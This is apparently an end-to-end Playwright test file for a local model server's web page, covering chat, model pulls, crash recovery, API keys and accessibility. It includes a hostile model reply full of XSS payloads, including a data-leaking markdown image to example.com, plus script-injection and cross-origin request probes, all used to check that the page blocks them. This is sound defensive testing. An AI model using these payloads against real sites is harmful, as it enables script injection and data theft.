"""The web page in a real Chromium, against real daemons: what a person does with it, and what a hostile one tries."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from tests.clients.packages import node_modules
from tests.e2e.helpers import ENDLESS
from tests.servers.hub import HubServer
from tests.servers.serving import Answer, Served
from tests.servers.tiny import tiny_files

from ollmlx.testing import wait_until
from ollmlx.testing.daemon import Daemon
from ollmlx_pypi.source import cache_folder

playwright = pytest.importorskip("playwright.sync_api", reason="playwright: pip install 'ollmlx[clients]'")
expect = playwright.expect

pytestmark = [pytest.mark.e2e, pytest.mark.clients]
ROOT = Path(__file__).parents[2]
PROGRAMS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
PATIENCE = 60_000  # milliseconds
expect.set_options(timeout=PATIENCE)
FOREIGN = "foreign.example"  # this machine, under a name that a stranger chose
VIEWS = ("chat", "models", "now", "doctor", "settings", "connect")
FIRST_VIEW = 200_000  # bytes that a browser gets for the first view, as they come: not even compressed
NARROW = {"width": 390, "height": 800}
HOSTILE = """
<script>window.harmed = 1</script><img src=x onerror="window.harmed = 1"><iframe src="https://example.com"></iframe>

[one](javascript:window.harmed=1) [two](JaVaScRiPt:window.harmed=1) [three](data:text/html,<script>alert(1)</script>)
![spy](https://example.com/?q=secret) <a href="javascript:window.harmed=1">four</a> <javascript:window.harmed=1>

```"><script>window.harmed=1</script>
</code></pre><script>window.harmed=1</script>
```

$\\href{javascript:window.harmed=1}{five}$ $\\includegraphics{https://example.com/x.png}$
"""
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="  # one pixel
WRITTEN = """A **table**, a formula $e^x$ and code.

| a | b |
|---|---|
| 1 | 2 |

```python
def double(x):
    return 2 * x
```
"""


CONNECTED = {
    "curl": ("sh", "-c"),
    "Python, OpenAI's client": (sys.executable, "-c"),
    "LangChain": (sys.executable, "-c"),
    "Codex": (sys.executable, "-c", "import sys, tomllib; print('Hello', tomllib.loads(sys.argv[1]))"),
    "opencode": (sys.executable, "-c", "import sys, json; print('Hello', json.loads(sys.argv[1]))"),
}
"""Programs on the page's view Connect, and how their lines are tried."""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Debian's Chromium, or another one on the path. `FOREIGN` is this machine."""
    program = next(filter(None, map(shutil.which, PROGRAMS)), None)
    if program is None:
        pytest.skip(f"no browser: none of {', '.join(PROGRAMS)} is installed")
    options = [
        "--no-sandbox",
        f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1",
        *("--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"),  # a microphone that beeps
    ]
    with playwright.sync_playwright() as driver:
        started = driver.chromium.launch(executable_path=program, args=options)
        yield started
        started.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Daemon]:
    """One daemon with fake models for most tests."""
    fakes: dict[str, dict[str, Any]] = {
        "hostile": {"say": HOSTILE},
        "parrot": {},
        "thinker": {"think": "let me see", "say": "It is four."},
        "writer": {"say": WRITTEN},
    }
    with Daemon(tmp_path_factory.mktemp("page"), fakes=fakes) as started:
        yield started


Open = Callable[..., Any]


@pytest.fixture
def opened(browser: Any) -> Iterator[Open]:
    """Opens a page in a context of its own. At the end no script has failed, and only the server was asked."""
    contexts = []

    def open_page(url: str, view: str = "chat", **options: Any) -> Any:
        context = browser.new_context(**options)
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(PATIENCE)
        page.on("pageerror", lambda error: failures.append(str(error)))
        page.on("dialog", lambda dialog: failures.append(f"dialog {dialog.message}"))
        page.on("request", lambda request: asked.append(request.url))
        origins.append(url)
        page.goto(f"{url}/ui/#/{view}")
        return page

    failures: list[str] = []
    asked: list[str] = []
    origins: list[str] = ["data:", "blob:"]
    yield open_page
    for context in contexts:
        context.close()
    assert failures == []
    assert [url for url in asked if not url.startswith(tuple(origins))] == []


def ask(page: Any, model: str, text: str) -> None:
    page.get_by_label("Model", exact=True).select_option(label=model)
    page.get_by_label("Your message").fill(text)
    page.get_by_label("Your message").press("Enter")


def answers(page: Any) -> Any:
    return page.locator("article.assistant .text")


def finished(page: Any) -> None:
    expect(page.get_by_role("button", name="Regenerate").last).to_be_visible()


def pull(page: Any, name: str) -> None:
    page.get_by_label("Name of the model to pull").fill(name)
    page.get_by_role("button", name="Pull", exact=True).click()


def changed(config: bytes, fields: dict[str, Any]) -> bytes:
    return json.dumps({**json.loads(config), **fields}).encode()


def test_a_browser_that_opens_the_server_gets_the_page_in_few_small_files(browser: Any, server: Daemon) -> None:
    page = browser.new_page()
    page.goto(server.url)
    assert page.url == f"{server.url}/ui/"
    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
    measured = "performance.getEntriesByType('resource').map(({ name, transferSize }) => [name, transferSize])"
    files = {name: size for name, size in page.evaluate(measured) if "/ui/" in name}
    assert len(files) <= 4, files
    assert 0 < sum(files.values()) <= FIRST_VIEW, files
    page.close()


def test_a_person_chats_reloads_and_finds_the_chat(server: Daemon, opened: Open) -> None:
    page = opened(server.url)
    ask(page, "parrot", "good morning")
    expect(answers(page)).to_have_text("good morning")
    expect(page.locator(".figures")).to_contain_text("tokens")
    page.get_by_role("button", name="New chat").click()
    ask(page, "parrot", "something else")
    expect(answers(page)).to_have_text("something else")
    page.reload()
    expect(answers(page)).to_have_text("something else")
    page.get_by_label("Search the chats").fill("MORNING")
    expect(page.locator(".chats li")).to_have_count(1)
    page.get_by_role("link", name="good morning").click()
    expect(answers(page)).to_have_text("good morning")


def test_markdown_is_set_code_is_coloured_and_copied(server: Daemon, opened: Open) -> None:
    page = opened(server.url, permissions=["clipboard-read", "clipboard-write"])
    ask(page, "writer", "write")
    expect(page.locator(".text td").first).to_have_text("1")
    expect(page.locator(".hljs-keyword").first).to_have_text("def")
    expect(page.locator(".text math")).to_have_count(1)
    page.locator(".text .copy").click()
    assert page.evaluate("navigator.clipboard.readText()") == "def double(x):\n    return 2 * x"


def test_thoughts_are_folded(server: Daemon, opened: Open) -> None:
    page = opened(server.url)
    ask(page, "thinker", "what is it?")
    expect(answers(page)).to_have_text("It is four.")
    expect(page.get_by_text("let me see")).to_be_hidden()
    page.get_by_text("Thoughts").click()
    expect(page.get_by_text("let me see")).to_be_visible()


def test_a_long_prompt_tells_its_progress_and_an_answer_is_stopped_at_the_server_too(
    server: Daemon, opened: Open
) -> None:
    page = opened(server.url)
    ask(page, "parrot", "fake:prefill=600 fake:prefill_ms=100 a long prompt")
    expect(page.locator(".waiting")).to_have_text(re.compile(r"Reading the prompt: \d+ % of 7 tokens…"))
    page.get_by_role("button", name="Stop").click()
    wait_until(server.idle)
    page.get_by_role("button", name="New chat").click()
    ask(page, "parrot", ENDLESS)
    expect(answers(page).last).not_to_be_empty()
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".figures").last).to_have_text("stopped")
    wait_until(server.idle)


def test_an_edited_question_is_a_branch_and_the_first_one_stays(server: Daemon, opened: Open) -> None:
    page = opened(server.url)
    ask(page, "parrot", "one")
    finished(page)
    page.get_by_role("button", name="Edit").click()
    page.get_by_label("Edit the message").fill("two")
    page.get_by_label("Edit the message").press("Enter")
    expect(answers(page)).to_have_text("two")
    finished(page)
    page.get_by_role("button", name="Earlier version").click()
    expect(answers(page)).to_have_text("one")
    page.get_by_role("button", name="Regenerate").click()
    finished(page)
    expect(page.locator(".assistant .branches")).to_contain_text("2 of 2")


def test_a_chats_own_settings_are_sent_and_the_result_of_a_tool_call_goes_back(server: Daemon, opened: Open) -> None:
    page = opened(server.url)
    page.get_by_label("Model", exact=True).select_option(label="parrot")
    page.get_by_role("button", name="Settings").click()
    tool = {"type": "function", "function": {"name": "weather", "parameters": {"type": "object", "properties": {}}}}
    page.get_by_label("Tools").fill(json.dumps([tool]))
    page.get_by_label("System prompt").fill("Be short.")
    page.get_by_label("Temperature").fill("0.5")
    page.get_by_role("button", name="Done").click()
    with page.expect_request("**/api/chat") as sent:
        ask(page, "parrot", 'fake:tool=weather fake:tool_args={"city":"Paris"} go')
    body = sent.value.post_data_json
    assert (body["messages"][0], body["options"]) == ({"role": "system", "content": "Be short."}, {"temperature": 0.5})
    assert body["tools"] == [tool]
    expect(page.locator(".call pre")).to_contain_text("Paris")
    page.get_by_label("Result of weather").fill("rain")
    page.get_by_role("button", name="Send the result").click()
    expect(answers(page).last).to_have_text("rain")


def test_chats_are_exported_deleted_and_imported(server: Daemon, opened: Open, tmp_path: Path) -> None:
    page = opened(server.url)
    ask(page, "parrot", "keep me")
    finished(page)
    with page.expect_download() as download:
        page.get_by_role("button", name="Export").click()
    file = tmp_path / "chats.json"
    download.value.save_as(file)
    page.get_by_role("button", name="Delete keep me").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(page.locator(".chats li")).to_have_count(0)
    page.locator("[data-import]").set_input_files(file)
    page.get_by_role("link", name="keep me").click()
    expect(answers(page)).to_have_text("keep me")
    (tmp_path / "other.json").write_text("[]", encoding="utf-8")
    page.locator("[data-import]").set_input_files(tmp_path / "other.json")
    expect(page.get_by_role("alert")).to_have_text("The file has no chats of ollmlx.")


def test_a_text_file_goes_with_the_question(server: Daemon, opened: Open, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("the secret word is plum", encoding="utf-8")
    page = opened(server.url)
    page.locator("[data-attach]").set_input_files(tmp_path / "notes.txt")
    ask(page, "parrot", "what is it?")
    expect(answers(page)).to_contain_text("the secret word is plum")


def test_a_picture_goes_to_a_model_that_sees_and_to_no_other(server: Daemon, opened: Open, daemon: Any) -> None:
    picture = {"name": "dot.png", "mimeType": "image/png", "buffer": base64.b64decode(DOT)}
    page = opened(server.url)
    page.get_by_label("Model", exact=True).select_option(label="parrot")
    page.locator("[data-attach]").set_input_files(picture)
    expect(page.get_by_role("alert")).to_have_text("dot.png: this model does not see pictures.")
    seeing = daemon(settings={"plugins": {"fake": {"capabilities": ["completion", "vision"]}}})
    page = opened(seeing.url)
    page.get_by_label("Model", exact=True).select_option(label="parrot")
    page.locator("[data-attach]").set_input_files(picture)
    with page.expect_request("**/api/chat") as sent:
        ask(page, "parrot", "what is this?")
    assert sent.value.post_data_json["messages"][0]["images"] == [DOT]
    expect(answers(page)).to_have_text(re.compile(r"what is this\? sees [0-9a-f]{8}"))
    expect(page.get_by_alt_text("dot.png")).to_be_visible()


def test_what_a_person_says_goes_as_a_sound_to_a_model_that_hears_and_its_text_into_the_box(
    server: Daemon, opened: Open, daemon: Any
) -> None:
    page = opened(server.url)
    expect(page.get_by_role("button", name="Attach")).to_be_visible()
    expect(page.get_by_role("button", name="Speak")).to_have_count(0)
    hearing = daemon(settings={"plugins": {"fake": {"capabilities": ["completion", "transcription"]}}})
    page = opened(hearing.url, permissions=["microphone"])
    page.get_by_label("Your message").fill("I say:")
    page.get_by_role("button", name="Speak").click()
    page.get_by_role("button", name="End the recording").click()
    expect(page.get_by_label("Your message")).to_have_value(
        re.compile(r"^I say: RIFF.*WAVEfmt")
    )  # the fake reads bytes


def test_a_hostile_model_runs_nothing_and_asks_nobody(server: Daemon, opened: Open) -> None:
    page = opened(server.url)
    ask(page, "hostile", "hello")
    finished(page)
    expect(answers(page)).to_contain_text("<script>window.harmed = 1</script>")
    assert page.locator(".messages :is(script, img, iframe, object, form, style)").count() == 0
    links = page.locator(".messages a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(links) <= {"https:", "http:", "mailto:"}
    for link in page.locator(".messages").get_by_text("one").all():
        link.click()
    assert page.evaluate("window.harmed") is None


def test_the_policy_stops_what_gets_into_the_page_all_the_same(server: Daemon, opened: Open) -> None:
    page = opened(server.url)
    blocked = page.evaluate(
        """async (other) => {
            const found = [];
            document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
            document.body.insertAdjacentHTML("beforeend", '<img src="nothing.png" onerror="window.harmed = 1">');
            const script = document.createElement("script");
            script.textContent = "window.harmed = 1";
            document.body.append(script);
            await fetch(other).catch(() => undefined);
            await new Promise((resolve) => setTimeout(resolve, 0));
            return found;
        }""",
        "http://foreign.example:9/",
    )
    assert "connect-src" in blocked
    assert {"script-src-elem"} <= set(blocked)
    assert page.evaluate("window.harmed") is None


def test_a_model_is_pulled_described_and_deleted(opened: Open, daemon: Any, no_leaked_descriptors: None) -> None:
    with HubServer() as hub:
        hub.add("mlx-community/Tiny-4bit", tiny_files(weights=900_000))
        wide = tiny_files()
        config = {"num_hidden_layers": 4000, "num_key_value_heads": 4000, "head_dim": 128}
        hub.add("mlx-community/Wide-4bit", {**wide, "config.json": changed(wide["config.json"], config)})
        plugins = {"disabled": ["pypi", "ollama_store"], "hub": {"endpoint": hub.url}}
        server = daemon(settings={"plugins": plugins, "security": {"private_hosts": ["localhost"]}})
        page = opened(server.url, "models")
        pulls = page.locator(".pulls")
        pull(page, "mlx-community/Wide-4bit")
        expect(pulls).to_contain_text("does not fit this machine")
        pulls.get_by_role("button", name="Dismiss").click()
        pull(page, "mlx-community/Tiny-4bit")
        expect(page.get_by_text("installed", exact=True)).to_be_visible()
        expect(pulls).to_contain_text("It fits this machine")
        card = page.locator(".cards .card", has_text="Tiny-4bit")
        card.get_by_role("button", name="Details").click()
        dialog = page.get_by_role("dialog")
        expect(dialog).to_contain_text("2,048 tokens")
        dialog.get_by_text("Change the defaults").click()
        dialog.get_by_label("Parameters").fill('temperature 0.25\nstop "end"\nstop "fin"')
        dialog.get_by_role("button", name="Save").click()
        expect(dialog).to_contain_text("Saved as mlx-community/Tiny-4bit")
        page.keyboard.press("Escape")
        shown = server.post("/api/show", {"model": "mlx-community/Tiny-4bit"}).json()["parameters"].split()
        assert shown == ["temperature", "0.25", "stop", '"end"', "stop", '"fin"']
        card.get_by_role("button", name="Delete").click()
        page.get_by_role("dialog").get_by_role("button", name="Delete").click()
        expect(card).to_have_count(0)
        pull(page, "mlx-community/Absent")
        expect(pulls.get_by_role("alert")).to_be_visible()
        server.stop()


def test_a_runner_that_is_killed_is_told_and_returns(opened: Open, daemon: Any) -> None:
    server = daemon()
    page = opened(server.url)
    ask(page, "parrot", ENDLESS)
    expect(answers(page)).not_to_be_empty()
    os.kill(server.loaded()[0]["pid"], signal.SIGKILL)
    expect(page.locator(".message").get_by_role("alert").get_by_role("link")).to_have_attribute(
        "href", re.compile(r"#/doctor/RUN\d{3}")
    )
    ask(page, "parrot", "are you back?")
    expect(answers(page).last).to_have_text("are you back?")
    page.get_by_role("link", name="Now").click()
    expect(page.locator(".card")).to_contain_text("restarted 1 time")
    expect(page.locator(".card .badge")).to_have_text("ready")
    page.get_by_text("Log", exact=True).click()
    page.get_by_label("Only lines with these words").fill("SIGKILL")
    page.get_by_label("Only lines with these words").press("Enter")
    expect(page.locator("pre.log")).to_contain_text("was killed by SIGKILL")


def test_a_daemon_that_is_killed_is_told_in_words_and_the_page_finds_the_next_one(
    opened: Open, daemon: Any, free_port: int
) -> None:
    server = daemon(settings={"server": {"host": f"127.0.0.1:{free_port}"}})
    page = opened(server.url)
    ask(page, "parrot", ENDLESS)
    expect(answers(page)).not_to_be_empty()
    server.kill()
    expect(page.locator(".message").get_by_role("alert")).to_contain_text("The connection to the server broke off.")
    page.get_by_role("link", name="Now").click()
    expect(page.get_by_role("alert")).to_contain_text("ollmlx serve starts it")
    page.get_by_role("link", name="Chat").click()
    expect(page.get_by_role("alert")).to_contain_text("The server does not answer.")
    server.start()
    expect(page.get_by_role("alert")).to_have_count(0)
    ask(page, "parrot", "are you back?")
    expect(answers(page).last).to_have_text("are you back?")
    server.stop()


def test_a_request_in_flight_is_told_with_its_log_and_the_last_hour(server: Daemon, opened: Open) -> None:
    page = opened(server.url)
    ask(page, "parrot", ENDLESS)
    expect(answers(page)).not_to_be_empty()
    page.get_by_role("link", name="Now").click()
    row = page.get_by_role("region", name="Requests in progress").get_by_role("row").nth(1)
    expect(row).to_contain_text(re.compile(r"127\.0\.0\.1\s*parrot\s*answers"))
    request = row.get_by_role("button").inner_text()
    row.get_by_role("button").click()
    expect(page.get_by_label("Only lines with these words")).to_have_value(request)
    expect(page.locator("pre.log")).to_contain_text(request)
    charts = page.get_by_role("img", name=re.compile("in the last hour: now"))
    expect(charts).to_have_count(4)
    expect(charts.first.locator("canvas")).to_be_visible()
    page.get_by_role("link", name="Chat").click()
    page.locator(".chats li").first.get_by_role("link").click()
    page.get_by_role("button", name="Stop").click()
    wait_until(server.idle)


def test_the_doctor_and_the_settings_are_for_who_has_the_key(opened: Open, daemon: Any, tmp_path: Path) -> None:
    server = daemon(settings={"security": {"api_keys": ["sesame"]}, "aliases": {"parrot": "nobody"}})
    page = opened(server.url, "settings", permissions=["clipboard-read", "clipboard-write"])
    page.get_by_label("API key").fill("sesame")
    page.get_by_role("button", name="Use this key").click()
    page.get_by_label("Only what is not the default").check()
    page.get_by_label("Search the settings").fill("api_keys")
    expect(page.locator("tbody tr")).to_have_count(1)
    expect(page.locator("tbody tr")).to_contain_text("ollmlx.toml")
    assert "sesame" not in page.content()
    page.get_by_role("link", name="Doctor").click()
    page.get_by_role("button", name="Run the doctor").click()
    found = page.locator(".findings > .card").filter(has=page.locator(".commands")).first
    expect(found).to_be_visible()
    found.get_by_role("button", name="Copy").first.click()
    commands = page.evaluate("navigator.clipboard.readText()")
    assert commands == found.locator("pre").first.inner_text()
    assert commands
    found.get_by_role("button", name="The page of").click()
    expect(page.get_by_role("dialog")).to_contain_text("What it means")
    page.get_by_role("dialog").locator(".copy").first.click()
    expect(page.get_by_role("dialog").get_by_text("Copied")).to_be_visible()
    page.keyboard.press("Escape")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download a bundle").click()
    download.value.save_as(tmp_path / "bundle.zip")
    with zipfile.ZipFile(tmp_path / "bundle.zip") as bundle:
        assert {"report.json", "settings.json", "daemon.log"} <= set(bundle.namelist())
        assert not any(b"sesame" in bundle.read(name) for name in bundle.namelist())


def test_a_key_is_asked_for_once_kept_for_the_tab_only_and_lines_with_it_connect_programs(
    opened: Open, daemon: Any
) -> None:
    server = daemon(settings={"security": {"api_keys": ["sesame"]}})
    page = opened(server.url)
    page.get_by_label("API key").fill("wrong")
    page.get_by_role("button", name="Use this key").click()
    expect(page.get_by_role("alert")).to_have_text("The server refused this key.")
    page.get_by_label("API key").fill("sesame")
    page.get_by_role("button", name="Use this key").click()
    ask(page, "parrot", "open")
    expect(answers(page)).to_have_text("open")
    page.reload()
    expect(answers(page)).to_have_text("open")
    expect(page.get_by_role("dialog")).to_have_count(0)
    assert (
        page.evaluate("JSON.stringify(localStorage).includes('sesame') || document.cookie.includes('sesame')") is False
    )
    page.get_by_role("link", name="Connect").click()
    assert "sesame" not in page.content()
    page.get_by_label("Show my key in the lines").check()
    for name, command in CONNECTED.items():
        lines = page.get_by_role("region", name=name).locator("pre").inner_text()
        ran = subprocess.run([*command, lines], capture_output=True, text=True, check=False, timeout=120)
        assert "Hello" in ran.stdout, (name, ran)
    other = page.context.new_page()
    other.goto(f"{server.url}/ui/")
    expect(other.get_by_role("dialog")).to_be_visible()


def test_a_foreign_page_reads_nothing_changes_nothing_and_shows_no_frame(browser: Any, server: Daemon) -> None:
    page_of_theirs = b"<!doctype html><title>theirs</title><iframe></iframe>"
    with closing(
        Served(lambda asked: Answer(200, page_of_theirs, {"Content-Type": "text/html", "Connection": "close"}))
    ) as foreign:
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"http://{FOREIGN}:{foreign.url.rpartition(':')[2]}/")
        tried = page.evaluate(
            """async (url) => {
                const outcome = (work) => work.then((answer) => answer.type + answer.status, () => "refused");
                const body = JSON.stringify({ model: "parrot" });
                return {
                    read: await outcome(fetch(url + "/ui/")),
                    list: await outcome(fetch(url + "/api/tags")),
                    remove: await outcome(fetch(url + "/api/delete", { method: "DELETE", body })),
                    blind: await outcome(fetch(url + "/api/generate", { method: "POST", body, mode: "no-cors" })),
                };
            }""",
            server.url,
        )
        assert {tried[name] for name in ("read", "list", "remove")} == {"refused"}
        with page.expect_console_message(lambda said: "frame-ancestors" in said.text):
            page.locator("iframe").evaluate("(frame, url) => { frame.src = url }", f"{server.url}/ui/")
        context.close()
    assert "parrot:latest" in {model["name"] for model in server.get("/api/tags").json()["models"]}
    assert server.loaded() == [] or all(one["active"] == 0 for one in server.loaded())


def test_a_name_that_a_stranger_gave_this_machine_gets_no_page(browser: Any, server: Daemon) -> None:
    page = browser.new_page()
    answer = page.goto(f"http://{FOREIGN}:{server.url.rpartition(':')[2]}/ui/")
    assert answer.status == 403
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious_in_any_view(server: Daemon, opened: Open, scheme: str) -> None:
    axe = (node_modules(cache_folder() / "tests", ROOT / "page") / "axe-core" / "axe.min.js").read_text("utf-8")
    page = opened(server.url, color_scheme=scheme)
    ask(page, "writer", "write")
    expect(page.locator(".hljs-keyword").first).to_be_visible()
    page.get_by_role("button", name="Settings").click()
    for view in VIEWS:
        page.get_by_role("navigation").get_by_role("link", name=view.title()).click()
        expect(page.locator(f"main.{view}").get_by_role("heading", level=1)).to_be_visible()
        page.evaluate(axe)
        found = page.evaluate("axe.run().then(({ violations }) => violations)")
        serious = [one for one in found if one["impact"] in ("serious", "critical")]
        assert serious == [], [(one["id"], [node["html"] for node in one["nodes"]]) for one in serious]


def test_on_a_phone_nothing_is_wider_than_the_screen_and_the_chats_open(server: Daemon, opened: Open) -> None:
    page = opened(server.url, viewport=NARROW)
    ask(page, "writer", "write " + "x" * 200)
    finished(page)
    page.get_by_role("button", name="Chats").click()
    expect(page.get_by_label("Search the chats")).to_be_visible()
    for view in VIEWS:
        page.get_by_role("navigation").get_by_role("link", name=view.title()).click()
        expect(page.locator(f"main.{view}").get_by_role("heading", level=1)).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= NARROW["width"], view


def test_the_keyboard_is_enough(server: Daemon, opened: Open) -> None:
    page = opened(server.url)
    expect(page.get_by_label("Your message")).to_be_focused()
    page.get_by_label("Model", exact=True).select_option(label="parrot")
    page.get_by_label("Your message").focus()
    page.keyboard.type(ENDLESS)
    page.keyboard.press("Enter")
    expect(answers(page)).not_to_be_empty()
    page.keyboard.press("Escape")
    expect(page.locator(".figures")).to_have_text("stopped")
    page.get_by_role("link", name="Skip to the content").focus()
    page.keyboard.press("Enter")
    expect(page.locator("main")).to_be_focused()


@pytest.mark.model
def test_the_real_model_chats(smollm2_models: Path, opened: Open, daemon: Any) -> None:
    server = daemon(fakes=None, settings={"storage": {"models": str(smollm2_models)}})
    page = opened(server.url)
    ask(page, "smollm2:135m", "Write one sentence about the sea.")
    finished(page)
    expect(answers(page)).not_to_be_empty()
    expect(page.locator(".figures")).to_contain_text("tokens/s")
    expect(page.get_by_role("meter").first).to_be_visible()
